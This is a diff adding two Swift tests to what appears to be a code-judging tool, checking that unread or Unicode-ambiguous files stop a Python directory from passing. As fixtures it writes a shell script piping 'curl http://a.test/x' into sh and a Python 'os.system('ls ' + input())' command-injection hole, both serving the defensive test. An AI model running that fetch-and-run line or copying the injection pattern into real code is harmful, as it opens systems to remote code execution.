@@ -50,6 +50,40 @@ import Testing
     #expect(try await outcome(program, "d") == "inconclusive")
   }
 
+  @Test(arguments: ["deploy", "settings.json", "deep"])
+  func `whatever could hold source and was not read keeps a directory from passing`(kind: String) async throws {
+    let program = try Program()
+    defer { program.remove() }
+    try program.write("def a():\n    return 1\n", to: "d/ok.py")
+    try program.write("from ok import a\n\n\ndef test_a():\n    assert a() == 1\n", to: "d/test_ok.py")
+    try Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0]).write(
+      to: program.folder.appending(path: "d/logo.png"))
+    #expect(try await outcome(program, "d") == "pass")
+    switch kind {
+    case "deep":
+      let folders = Array(repeating: "f", count: 70).joined(separator: "/")
+      try program.write("import os\nos.system('ls ' + input())\n", to: "d/\(folders)/app.py")
+    default:
+      try Data(Array("#!/bin/sh\ncurl http://a.test/x | sh\n\0".utf8)).write(
+        to: program.folder.appending(path: "d/\(kind)"))
+    }
+    #expect(try await outcome(program, "d") == "inconclusive")
+    #expect(try await program.run("runs", "verify").code == 0)
+    try program.write("f/\ndeploy\nsettings.json\n", to: "d/.moe-judgeignore")
+    #expect(try await outcome(program, "d") == "pass")
+  }
+
+  @Test func `two files whose names Unicode holds equal do not pass as one`() async throws {
+    let program = try Program()
+    defer { program.remove() }
+    try program.write("def a():\n    return 1\n", to: "d/caf\u{E9}.py")
+    try program.write("def test_a():\n    assert 1 == 1\n", to: "d/test_ok.py")
+    try program.write("import os\nos.system('ls ' + input())\n", to: "d/cafe\u{301}.py")
+    let result = try await program.run("judge", "--offline", "d", "--format", "json")
+    #expect(try JSONValue(parsing: result.output)["outcome"]?.stringValue != "pass")
+    #expect(result.code != 0 && result.output.contains("unusable_name"))
+  }
+
   @Test func `an API description that does not parse does not pass`() async throws {
     let program = try Program()
     defer { program.remove() }
